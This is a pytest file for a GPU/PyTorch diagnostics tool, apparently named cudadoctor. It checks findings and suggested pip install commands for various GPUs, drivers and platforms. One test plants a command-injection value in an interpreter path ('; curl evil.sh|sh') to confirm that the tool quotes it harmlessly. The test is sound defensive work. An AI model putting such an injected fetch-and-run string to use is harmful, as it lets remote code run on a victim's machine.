"""The torch verdicts on hand-written facts for machines nobody here owns."""

from __future__ import annotations

import dataclasses

from cudadoctor.facts import (
    DriverFacts,
    Facts,
    MigInstance,
    PciFacts,
    TorchFacts,
)
from cudadoctor.facts.paste import PasteFacts, PasteHit
from cudadoctor.model import Severity
from cudadoctor.rules import evaluate
from tests.facts_fixtures import driver_ok, gpu, healthy, linux, no_driver, torch_cpu, torch_cuda
from tests.helpers import by_code, codes, commands

CU13X = "7.5 8.0 8.6 9.0 10.0 12.0+PTX"
CU126 = "5.0 6.0 7.0 7.5 8.0 8.6 9.0"
A100 = "NVIDIA A100-SXM4-80GB"


def run(facts):
    findings = evaluate(facts, [])
    return {f.code: f for f in findings}, findings


def errors(findings):
    return [f.code for f in findings if f.severity is Severity.ERROR]


def test_h100_healthy_on_cu130():
    dev = [gpu(0, "NVIDIA H100 80GB HBM3", "9.0")]
    facts = healthy(dev, driver="580.95.05", cuda=13000)
    facts.torch = torch_cuda("2.13.0+cu130", "13.0", CU13X, dev, cudnn_version=91900)
    by, findings = run(facts)
    assert errors(findings) == []
    assert by["CD200"].title == "torch 2.13.0+cu130 (CUDA 13.0, cuDNN 9.19.0) uses 1 GPU: NVIDIA H100 80GB HBM3"


def test_t4_with_cu130_wheel_on_535_driver():
    dev = [gpu(0, "Tesla T4", "7.5", total_gib=15)]
    facts = healthy(dev, driver="535.104.05", cuda=12020)
    facts.torch = torch_cuda(
        "2.13.0+cu130",
        "13.0",
        CU13X,
        dev,
        available=False,
        availability_warnings=["The NVIDIA driver on your system is too old (found version 12020)"],
    )
    by, _ = run(facts)
    f = by["CD203"]
    assert f.title == "torch 2.13.0+cu130 needs CUDA 13.0; driver 535.104.05 supports CUDA up to 12.2"
    whens = [r.when for r in f.fix]
    assert whens[0].startswith("Upgrade the NVIDIA driver to 580.65.06 or newer")
    assert commands(f)[-1] == (
        "/opt/venv/bin/python -m pip install torch==2.13.0 --index-url https://download.pytorch.org/whl/cu126"
    )
    assert "CD203" in by["CD210"].why  # is_available False: the root cause is named
    assert "CD214" in by  # and the CPU fallback advice


def test_rtx4090_minor_version_compatibility_is_fine():
    dev = [gpu(0, "NVIDIA GeForce RTX 4090", "8.9", total_gib=24)]
    facts = healthy(dev, driver="550.54.14", cuda=12040)
    facts.torch = torch_cuda("2.6.0+cu126", "12.6", "5.0 6.0 7.0 7.5 8.0 8.6 9.0+PTX", dev)
    by, findings = run(facts)
    assert errors(findings) == []
    assert by["CD204"].severity is Severity.INFO
    assert "minor-version compatibility" in by["CD204"].title
    assert "CD200" in by  # sm_86 cubins run on 8.9


def test_v100_on_cu130_wheel_names_the_variant_that_covers_it():
    dev = [gpu(0, "Tesla V100-SXM2-32GB", "7.0", total_gib=32)]
    facts = healthy(dev, driver="580.65.06", cuda=13000)
    facts.torch = torch_cuda("2.13.0+cu130", "13.0", CU13X, dev)
    by, _ = run(facts)
    f = by["CD205"]
    assert "Tesla V100-SXM2-32GB (compute capability 7.0, Volta)" in f.title
    assert "torch 2.13 builds with kernels for it: cu126" in f.why
    assert commands(f)[-1].endswith("install torch==2.13.0 --index-url https://download.pytorch.org/whl/cu126")
    assert "CD200" not in by


def test_k80_is_older_than_every_current_build():
    dev = [gpu(0, "Tesla K80", "3.7", total_gib=12)]
    facts = healthy(dev, driver="470.82.01", cuda=11040)
    facts.torch = torch_cuda("2.13.0+cu126", "12.6", CU126, dev, available=False)
    by, _ = run(facts)
    old = by["CD206"]
    assert "Kepler" in old.title
    assert "The newest torch with a build for 3.7 is 2.7 (cu118)" in old.why
    assert commands(old)[-1].endswith("install torch==2.7.0 --index-url https://download.pytorch.org/whl/cu118")
    assert "CD203" in by  # CUDA 12.6 needs a newer driver than 470 (CUDA 11.4) too


def test_rtx5090_needs_a_newer_torch():
    dev = [gpu(0, "NVIDIA GeForce RTX 5090", "12.0", total_gib=32)]
    facts = healthy(dev, driver="570.86.16", cuda=12080)
    facts.torch = torch_cuda("2.5.1+cu121", "12.1", "5.0 6.0 7.0 7.5 8.0 8.6 9.0", dev, torchvision="0.20.1")
    by, _ = run(facts)
    f = by["CD205"]
    assert "Blackwell" in f.title
    assert "No torch 2.5 build has kernels for it; torch 2.7 and newer do." in f.why
    # the newest release whose build this 12.8 driver runs and that has sm_120: 2.11 cu128
    assert commands(f) == [
        "/opt/venv/bin/python -m pip uninstall -y torch torchvision",
        "/opt/venv/bin/python -m pip install torch==2.11.0 torchvision==0.26.0 "
        "--index-url https://download.pytorch.org/whl/cu128",
    ]


def test_a100_mig_is_explained_with_instance_uuids():
    mig = [
        MigInstance(0, "MIG-aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee", 10 << 30, 0),
        MigInstance(1, "MIG-11111111-2222-3333-4444-555555555555", 10 << 30, 0),
    ]
    dev = [gpu(0, "NVIDIA A100-SXM4-40GB", "8.0", total_gib=40, mig_enabled=True, mig_instances=mig)]
    facts = healthy(dev, driver="550.54.14", cuda=12040)
    facts.torch = torch_cuda("2.5.1+cu124", "12.4", "5.0 6.0 7.0 7.5 8.0 8.6 9.0+PTX", dev)
    by, findings = run(facts)
    assert errors(findings) == []
    m = by["CD305"]
    assert "2 instances" in m.title
    assert commands(m) == ["export CUDA_VISIBLE_DEVICES=MIG-aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee"]
    facts.system.env["CUDA_VISIBLE_DEVICES"] = "MIG-11111111-2222-3333-4444-555555555555"
    by, _ = run(facts)
    assert "CUDA sees 1 of 1 GPU" in by["CD300"].title
    assert by["CD300"].tables[0].rows[0][2].startswith("MIG-11111111")


def test_windows_cpu_wheel_mentions_pypi_default():
    dev = [gpu(0, "NVIDIA GeForce RTX 3060", "8.6", total_gib=12)]
    facts = healthy(dev, driver="560.94", cuda=12060, os="Windows", os_id=None, shm_total=None)
    facts.torch = torch_cpu(version="2.13.0")
    by, _ = run(facts)
    f = by["CD202"]
    assert "On Windows, `pip install torch` from PyPI installs a CPU-only build" in f.why
    assert commands(f)[-1].endswith("install torch==2.13.0 --index-url https://download.pytorch.org/whl/cu126")


def test_wsl2_with_working_driver():
    dev = [gpu(0, "NVIDIA GeForce RTX 3080", "8.6", total_gib=10)]
    facts = healthy(dev, driver="566.14", cuda=12070, wsl=True)
    facts.torch = torch_cuda("2.13.0+cu126", "12.6", CU126, dev)
    by, findings = run(facts)
    assert errors(findings) == []
    assert "CD141" in by and "CD200" in by


def test_macos_uses_mps_and_no_cpu_fallback_nag():
    facts = no_driver(os="Darwin", os_id=None, machine="arm64")
    facts.pci = PciFacts(scanned=False)
    facts.torch = torch_cpu(version="2.13.0", mps_built=True, mps_available=True)
    by, _ = run(facts)
    assert "CD109" in by
    assert by["CD216"].title == "torch 2.13.0 on macOS: MPS available"
    assert "CD214" not in by


def test_torch_not_installed_gets_the_fitting_install_command():
    dev = [gpu(0, "NVIDIA L4", "8.9", total_gib=24)]
    facts = healthy(dev, driver="580.95.05", cuda=13000)
    facts.torch = dataclasses.replace(
        torch_cpu(), installed=False, version=None, import_error="No module named 'torch'"
    )
    by, _ = run(facts)
    f = by["CD201"]
    # the newest known release; of its builds cu130 runs on this CUDA 13.0 driver in full (cu132 only by
    # minor-version compatibility), so cu130 is preferred (2.15 keeps cu130: RFC pytorch#190385)
    assert commands(f)[0] == (
        "/opt/venv/bin/python -m pip install torch==2.15.0 --index-url https://download.pytorch.org/whl/cu130"
    )


def test_import_failure_is_not_a_crash():
    facts = healthy([gpu(0, "NVIDIA A10", "8.6")])
    facts.torch = dataclasses.replace(torch_cpu(), import_error="OSError: libcudnn.so.9: cannot open shared object")
    by, _ = run(facts)
    assert "libcudnn.so.9" in by["CD211"].title


def test_cudnn_error_and_shadowing():
    dev = [gpu(0, "NVIDIA A100-SXM4-80GB", "8.0")]
    facts = healthy(dev)
    facts.torch = torch_cuda(
        "2.13.0+cu126",
        "12.6",
        CU126,
        dev,
        cudnn_error="RuntimeError: cuDNN version incompatibility: PyTorch was compiled against "
        "(9, 10, 2) but found runtime version (8, 9, 7)",
        loaded_libraries={"cudnn": ["/usr/lib/x86_64-linux-gnu/libcudnn.so.8.9.7"]},
    )
    by, _ = run(facts)
    assert "incompatibility" in by["CD207"].title
    assert by["CD208"].title.endswith("/usr/lib/x86_64-linux-gnu/libcudnn.so.8.9.7")
    assert "CD200" not in by


def test_wheel_cudnn_is_not_shadowing():
    dev = [gpu(0, "NVIDIA A100-SXM4-80GB", "8.0")]
    facts = healthy(dev)
    facts.torch = torch_cuda(
        "2.13.0+cu126",
        "12.6",
        CU126,
        dev,
        loaded_libraries={"cudnn": ["/opt/venv/lib/python3.11/site-packages/nvidia/cudnn/lib/libcudnn.so.9"]},
    )
    by, _ = run(facts)
    assert "CD208" not in by


def test_system_nvcc_differs_is_not_a_problem():
    dev = [gpu(0, "NVIDIA A100-SXM4-80GB", "8.0")]
    facts = healthy(dev)
    facts.toolkit.nvcc_version, facts.toolkit.nvcc_path = "11.8", "/usr/local/cuda/bin/nvcc"
    facts.torch = torch_cuda("2.13.0+cu126", "12.6", CU126, dev)
    by, _ = run(facts)
    f = by["CD209"]
    assert f.severity is Severity.INFO and "not a problem" in f.title
    assert "collect_env" in f.why


def test_rocm_build_on_nvidia():
    dev = [gpu(0, "NVIDIA A10", "8.6")]
    facts = healthy(dev)
    facts.torch = dataclasses.replace(torch_cpu(version="2.13.0+rocm6.4"), hip="6.4.0", cuda_built=False)
    by, _ = run(facts)
    assert "ROCm" in by["CD213"].title


def test_no_driver_with_cuda_torch_still_names_the_driver_first():
    facts = no_driver()
    facts.pci = PciFacts(scanned=True, nvidia_gpus=[])
    facts.driver = DriverFacts(binding="x", library_loaded=False, init_status="LIBRARY_NOT_FOUND")
    facts.torch = torch_cuda("2.13.0+cu130", "13.0", CU13X, [], available=False)
    by, findings = run(facts)
    assert findings[0].code == "CD108"
    assert "CD203" not in by  # no driver facts: no driver-age verdict


def test_cuda_build_without_cudnn():
    dev = [gpu(0, "NVIDIA A10", "8.6")]
    facts = healthy(dev)
    facts.torch = torch_cuda("2.13.0+cu126", "12.6", CU126, dev, cudnn_version=None, cudnn_present=False)
    by, _ = run(facts)
    assert by["CD207"].title == "torch 2.13.0+cu126 finds no cuDNN"
    assert commands(by["CD207"])[0].endswith("--index-url https://download.pytorch.org/whl/cu126")


def test_cd210_names_the_cpu_build_not_a_single_lost_gpu() -> None:
    devs = [gpu(0, A100, "8.0"), gpu(1, A100, "8.0", error="GPU_IS_LOST")]
    facts = healthy(devs)
    facts.torch = torch_cpu()
    by = by_code(evaluate(facts, []))
    assert "CD105" in by and "CD202" in by  # both are still reported
    cd210 = by["CD210"]
    assert cd210.why.startswith("Cause: CD202 ")
    assert "GPU_IS_LOST" not in cd210.why
    assert cd210.fix[0].commands == ["cudadoctor explain CD202"]
    assert cd210.cause == "CD202"


def test_cd210_ranks_build_errors_before_other_errors() -> None:
    devs = [gpu(0, A100, "8.0")]
    facts = healthy(devs)
    facts.system = linux(env={"CUDA_VISIBLE_DEVICES": ""})  # CD301 comes in a later section, but is listed first
    facts.torch = torch_cpu()
    cd210 = by_code(evaluate(facts, []))["CD210"]
    assert cd210.why.startswith("Cause: CD202 ") and "CD301" in cd210.why


def test_every_gpu_lost_is_a_cause() -> None:
    devs = [gpu(0, A100, "8.0", error="GPU_IS_LOST")]
    facts = healthy(devs, driver="580.95.05", cuda=13000)
    facts.torch = torch_cuda("2.13.0+cu130", "13.0", CU13X, devs, available=False)
    by = by_code(evaluate(facts, []))
    assert by["CD210"].why.startswith("Cause: CD105 ")
    assert "CD301" not in by  # CUDA_VISIBLE_DEVICES is unset: it hides nothing, the GPU is lost


def pasted(version: str) -> Facts:
    hit = PasteHit("undefined-symbol", "undefined symbol: foo", {"symbol": "foo", "library": "libtorch_cuda.so"})
    return Facts(
        torch=TorchFacts(python_executable="python", installed=True, version=version),
        paste=PasteFacts(formats=["pip list"], hits=[hit]),
    )


def install_lines(facts: Facts) -> list[str]:
    return [c for c in commands(evaluate(facts, [])) if "pip install" in c and "torch==" in c]


def test_a_pasted_version_gets_an_index_it_exists_on() -> None:
    assert install_lines(pasted("2.4.0")) == [
        "python -m pip install torch==2.4.0 --index-url https://download.pytorch.org/whl/cu124"  # the newest
    ]
    old_driver = pasted("2.4.0")
    old_driver.driver = driver_ok("470.82.01", 11040, [])  # CUDA 11.4: runs cu118, not cu121/cu124
    assert install_lines(old_driver) == [
        "python -m pip install torch==2.4.0 --index-url https://download.pytorch.org/whl/cu118"
    ]
    # a release the tables do not know: its default wheel, not an index that may lack it
    assert install_lines(pasted("1.13.1")) == ["python -m pip install torch==1.13.1"]
    assert not any("#" in c for c in commands(evaluate(pasted("2.4.0"), [])) if "pip install" in c)


def test_no_advice_is_a_label_not_a_comment() -> None:
    from cudadoctor.advice.install import Advice
    from cudadoctor.rules.torch_install import advice_fix

    fixes = advice_fix(Advice(None, None, note="no known torch build fits"), "Install torch")
    assert fixes[0].commands == [] and "https://pytorch.org/get-started/previous-versions/" in fixes[0].when


def _cpu_torch_fix_commands(python: str, windows: bool = False) -> list[str]:
    dev = [gpu(0, "NVIDIA GeForce RTX 3060", "8.6", total_gib=12)]
    facts = healthy(dev, driver="560.35.03", cuda=12060)
    if windows:
        facts.system.os = "Windows"
    facts.torch = dataclasses.replace(torch_cpu(), python_executable=python)
    return [c for fx in by_code(evaluate(facts, []))["CD202"].fix for c in fx.commands]


def test_an_interpreter_path_with_a_space_pastes_as_one_word() -> None:
    cmds = _cpu_torch_fix_commands("/home/al ice/my env/bin/python")
    assert cmds and all(c.startswith("'/home/al ice/my env/bin/python' -m pip") for c in cmds)
    win = _cpu_torch_fix_commands("C:\\Program Files\\Python312\\python.exe", windows=True)
    assert win and all(c.startswith('& "C:\\Program Files\\Python312\\python.exe" -m pip') for c in win)
    plain = _cpu_torch_fix_commands("/opt/venv/bin/python")
    assert all(c.startswith("/opt/venv/bin/python -m pip") for c in plain)  # no quotes where none are needed


def test_a_replayed_interpreter_path_cannot_run_code_when_pasted() -> None:
    """Someone else's saved report: its path is a name in the fix, never a second command."""
    cmds = _cpu_torch_fix_commands("/usr/bin/python3; curl evil.sh|sh #")
    assert cmds and all(c.startswith("'/usr/bin/python3; curl evil.sh|sh #' -m pip") for c in cmds)


def test_cuda_sees_no_gpu_when_libcuda_is_missing_so_cd300_is_not_said():
    """New-user trial: with libcuda missing (CD121), "CUDA sees 4 of 4 GPUs" (CD300) contradicted it."""
    from cudadoctor.facts import CudaDriverFacts
    from cudadoctor.rules import evaluate

    devices = [gpu(i, "NVIDIA A100-SXM4-80GB", "8.0") for i in range(4)]
    facts = healthy(devices)
    facts.cuda_driver = CudaDriverFacts(library_found=False, load_error="libcuda.so.1: cannot open shared object file")
    found = codes(evaluate(facts, []))
    assert "CD121" in found and "CD300" not in found
    facts.cuda_driver = None  # not probed: what CUDA sees is CUDA_VISIBLE_DEVICES' mapping, shown as before
    assert "CD300" in codes(evaluate(facts, []))
